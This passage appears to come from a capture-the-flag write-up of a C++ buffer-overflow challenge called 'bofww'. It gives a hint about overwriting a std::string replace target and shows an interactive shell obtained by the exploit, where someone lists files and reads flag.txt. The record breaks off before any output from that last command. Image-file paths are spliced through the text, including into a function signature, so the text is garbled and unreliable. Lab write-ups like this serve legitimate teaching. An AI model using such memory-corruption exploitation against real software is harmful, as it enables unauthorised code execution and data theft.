    0x3  # std::__cxx11::basic_string<char,std::char_traits<char>, std::allocator<char> >::_M_replace(unsigned long, unsigned long, char const*, unsigned long)+0x4a --> need to be >= strlen(_name)  # noqa

$ ./
[*] Switching to interactive mode
What is your first name? How old are you? $ lsDockerfile  docker-compose.ymlbofww        flag.txtmain.cpp
$ cat flag.txt